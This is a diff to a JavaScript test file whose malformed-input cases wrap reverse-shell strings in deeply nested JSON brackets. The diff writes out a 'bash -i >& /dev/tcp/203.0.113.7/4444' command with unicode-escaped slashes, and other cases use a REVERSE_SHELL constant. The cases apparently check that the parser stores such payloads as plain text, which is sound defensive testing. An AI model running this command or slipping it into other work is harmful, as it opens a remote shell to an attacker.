@@ -187,7 +187,10 @@ describe('malformed input', () => {
 
   test.each([
     ['nests too deep', `${'['.repeat(90_000)}"${REVERSE_SHELL}"${']'.repeat(90_000)}`],
-    ['nests too deep, in escapes', `${'['.repeat(300)}"\\u002fdev\\u002ftcp/203.0.113.7/4444"${']'.repeat(300)}`],
+    [
+      'nests too deep, in escapes',
+      `${'['.repeat(300)}"bash -i >& \\u002fdev\\u002ftcp/203.0.113.7/4444"${']'.repeat(300)}`,
+    ],
     ['is invalid', `{"command": "${REVERSE_SHELL}"`],
   ])('as JSON that %s is stored as text and evaluated', async (_what, text) => {
     const one = await takeOne(mapped({ payload: { type: 'json', text } }))
